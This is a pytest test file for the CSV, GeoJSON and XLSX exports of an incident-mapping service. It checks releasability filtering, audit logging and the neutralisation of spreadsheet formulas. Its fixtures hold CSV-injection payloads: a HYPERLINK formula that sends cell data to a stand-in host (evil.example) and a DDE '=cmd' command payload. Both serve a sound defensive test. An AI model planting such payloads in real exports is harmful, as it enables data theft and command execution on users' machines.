"""Exports of incidents and assistance requests (issue 22, point 4): CSV with an HXL hashtag
row, GeoJSON and XLSX, with the map's filters, releasability, formula neutralisation and one
audit entry per export."""

from __future__ import annotations

import csv
import io
from typing import Any

import orjson
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session

from factories.assistance import attacked, file, opened
from factories.incidents import NOW, report, seed_markings
from helpers.web import sign_in
from liptako.audit.models import AuditEntry
from liptako.audit.service import Actor
from liptako.auth.models import User
from liptako.auth.releasability import Viewer, may_see
from liptako.incidents.models import Incident
from liptako.incidents.schemas import IncidentIn
from liptako.obligations.recording import record_report
from liptako.reports.exports import INCIDENT_COLUMNS, REQUEST_COLUMNS
from liptako.reports.writers import neutralise

API = "/api/v1/incidents/export"
HOSTILE = {"description": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
           "place_name": "+1 Gao", "fatalities": 7}


def _csv(body: bytes) -> tuple[list[str], list[str], list[dict[str, str]]]:
    assert body.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte-order mark"
    header, tags, *rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    return header, tags, [dict(zip(header, r, strict=True)) for r in rows]


def _hostile(session: Session) -> Incident:
    payload = IncidentIn.model_validate(report(tlp="GREEN", **HOSTILE))
    return record_report(session, payload, actor=Actor(None, "seed", "BFA"), state="BFA",
                         pact_ids=(), now=NOW)


def _exports(session: Session, action: str) -> list[AuditEntry]:
    return list(session.scalars(select(AuditEntry).where(AuditEntry.action == action)
                                .order_by(AuditEntry.seq)))


def test_csv_has_the_header_the_hxl_row_and_the_values(
        client: TestClient, auth, session: Session) -> None:  # type: ignore[no-untyped-def]
    made = _hostile(session)
    response = client.get(f"{API}?format=csv&country=BFA&tlp=GREEN", headers=auth("bfa_analyst"))
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    disposition = response.headers["content-disposition"]
    assert disposition.startswith('attachment; filename="liptako-incidents-')
    assert disposition.endswith('.csv"')
    header, tags, rows = _csv(response.content)
    assert header == [c.name for c in INCIDENT_COLUMNS]
    assert tags == [c.tag for c in INCIDENT_COLUMNS]
    for tag in ("#date+occurred", "#country+code", "#adm1+name", "#geo+lat", "#geo+lon",
                "#event+type", "#affected+killed", "#org+perpetrator", "#meta+tlp"):
        assert tag in tags
    row, = (r for r in rows if r["id"] == str(made.id))
    assert row["occurred_on"] == "2024-05-11" and row["country"] == "BFA"
    assert row["fatalities"] == "7" and row["tlp"] == "GREEN"
    assert float(row["lat"]) == made.lat and float(row["lon"]) == made.lon
    assert row["admin1_name"] == made.admin1_name and made.admin1_name
    # neutralised: a spreadsheet shows the text, it does not run it
    assert row["description"] == "'" + HOSTILE["description"]
    assert row["location"] == "'+1 Gao"


def test_the_export_holds_exactly_what_the_map_lists_for_the_same_filters(
        client: TestClient, auth, session: Session) -> None:  # type: ignore[no-untyped-def]
    seed_markings(session)
    filters = "country=BFA,NER&from=2024-01-05&to=2024-02-10&event_type=battle"
    listed = client.get(f"/api/v1/incidents?limit=5000&{filters}",
                        headers=auth("ner_analyst")).json()["features"]
    _, _, rows = _csv(client.get(f"{API}?{filters}", headers=auth("ner_analyst")).content)
    assert listed and [int(r["id"]) for r in rows] == [f["id"] for f in listed]
    assert {r["country"] for r in rows} <= {"BFA", "NER"}
    assert all("2024-01-05" <= r["occurred_on"] <= "2024-02-10" for r in rows)
    everything = _csv(client.get(API, headers=auth("ner_analyst")).content)[2]
    assert len(everything) > len(rows), "the filters took something out"


def test_another_states_red_incident_is_left_out_and_the_export_audited(
        client: TestClient, auth, session: Session) -> None:  # type: ignore[no-untyped-def]
    made = seed_markings(session)
    viewer = Viewer(None, "BFA", ("analyst",))
    response = client.get(f"{API}?format=geojson", headers=auth("bfa_analyst"))
    body = orjson.loads(response.content)
    ids = {f["properties"]["id"] for f in body["features"]}
    assert ids == {i.id for i in made if may_see(viewer, i.tlp, i.originator, i.audience)}
    red_of_mali = [i.id for i in made if i.tlp == "RED" and i.originator == "MLI"
                   and not may_see(viewer, i.tlp, i.originator, i.audience)]
    assert red_of_mali and not ids & set(red_of_mali)
    entry, = _exports(session, "incident.export")
    restricted = sum(1 for i in made if i.tlp in ("AMBER+STRICT", "RED")
                     and may_see(viewer, i.tlp, i.originator, i.audience))
    assert entry.actor_name == "bfa_analyst" and entry.detail == {
        "format": "geojson", "rows": len(ids), "restricted": restricted, "filters": {}}


def test_geojson_parses_with_a_point_per_feature(
        client: TestClient, auth, session: Session) -> None:  # type: ignore[no-untyped-def]
    made = _hostile(session)
    response = client.get(f"{API}?format=geojson&country=BFA", headers=auth("bfa_analyst"))
    assert response.headers["content-type"] == "application/geo+json"
    body = orjson.loads(response.content)
    assert body["type"] == "FeatureCollection"
    feature, = (f for f in body["features"] if f["properties"]["id"] == made.id)
    assert feature["geometry"] == {"type": "Point", "coordinates": [made.lon, made.lat]}
    # GeoJSON is for programs: the text as it was written
    assert feature["properties"]["description"] == HOSTILE["description"]
    assert feature["properties"]["fatalities"] == 7


def test_xlsx_reads_back_with_numbers_as_numbers_and_text_neutralised(
        client: TestClient, auth, session: Session) -> None:  # type: ignore[no-untyped-def]
    made = _hostile(session)
    payload = IncidentIn.model_validate(report(tlp="GREEN", description="@SUM(A1:A9)",
                                               fatalities=3))
    other = record_report(session, payload, actor=Actor(None, "seed", "BFA"), state="BFA",
                          pact_ids=(), now=NOW)
    response = client.get(f"{API}?format=xlsx&country=BFA", headers=auth("bfa_analyst"))
    assert response.status_code == 200
    assert response.headers["content-disposition"].endswith('.xlsx"')
    sheet = load_workbook(io.BytesIO(response.content), read_only=True).active
    header, tags, *rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert header == [c.name for c in INCIDENT_COLUMNS]
    assert tags == [c.tag for c in INCIDENT_COLUMNS]
    by_id = {r[0]: dict(zip(header, r, strict=True)) for r in rows}
    assert by_id[made.id]["description"] == "'" + HOSTILE["description"]
    assert by_id[made.id]["location"] == "'+1 Gao"
    assert by_id[made.id]["fatalities"] == 7 and by_id[made.id]["lat"] == made.lat
    assert by_id[other.id]["description"] == "'@SUM(A1:A9)"
    assert by_id[other.id]["fatalities"] == 3


def test_neutralise_prefixes_formula_starts_only() -> None:
    for text in ("=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise(text) == "'" + text
    assert neutralise("Ségou, 12 morts") == "Ségou, 12 morts"
    assert neutralise(-5) == -5 and neutralise(2.5) == 2.5


def test_an_unknown_format_is_refused(client: TestClient, auth) -> None:  # type: ignore[no-untyped-def]
    response = client.get(f"{API}?format=pdf", headers=auth("bfa_analyst"))
    assert response.status_code == 422 and "format" in response.text


def test_requests_export_with_the_lists_visibility(
        client: TestClient, auth, session: Session,  # type: ignore[no-untyped-def]
        cast: dict[str, User]) -> None:
    incident = attacked(session, "MLI")
    shared = opened(session, cast, [incident], title="=cmd|'/c calc'!A1")
    draft = file(session, cast["amadou_mli_liaison"], [incident], title="Mali's own draft")
    seen: dict[str, Any] = {}
    for name in ("amadou_mli_liaison", "ibrahim_bfa_liaison"):
        response = client.get("/api/v1/assistance-requests/export",
                              headers=auth(name))
        assert response.status_code == 200, response.text
        header, tags, rows = _csv(response.content)
        assert header == [c.name for c in REQUEST_COLUMNS]
        assert tags == [c.tag for c in REQUEST_COLUMNS]
        seen[name] = {int(r["id"]): r for r in rows}
    assert set(seen["amadou_mli_liaison"]) >= {shared.id, draft.id}
    assert shared.id in seen["ibrahim_bfa_liaison"]
    assert draft.id not in seen["ibrahim_bfa_liaison"], "a draft: its own state's only"
    row = seen["ibrahim_bfa_liaison"][shared.id]
    assert row["title"] == "'=cmd|'/c calc'!A1" and row["requesting_state"] == "MLI"
    assert row["places"] and float(row["lat"]) == 15.92
    geo = orjson.loads(client.get("/api/v1/assistance-requests/export?format=geojson&state=MLI",
                                  headers=auth("ibrahim_bfa_liaison")).content)
    feature, = (f for f in geo["features"] if f["properties"]["id"] == shared.id)
    assert feature["geometry"] == {"type": "Point", "coordinates": [2.40, 15.92]}
    entries = _exports(session, "assistance_request.export")
    assert [e.actor_name for e in entries] == ["amadou_mli_liaison", "ibrahim_bfa_liaison",
                                               "ibrahim_bfa_liaison"]
    assert entries[-1].detail["filters"] == {"state": "MLI"}


def test_the_map_and_the_assistance_list_offer_the_three_exports(
        client: TestClient, cast: dict[str, User]) -> None:
    sign_in(client, "sec")
    for path, api in (("/", "/api/v1/incidents/export"),
                      ("/assistance", "/api/v1/assistance-requests/export")):
        page = client.get(path)
        assert page.status_code == 200
        for fmt in ("csv", "geojson", "xlsx"):
            assert f'href="{api}?format={fmt}" download' in page.text, (path, fmt)
    assert "Exporter les incidents du filtre" in client.get("/?lang=fr").text
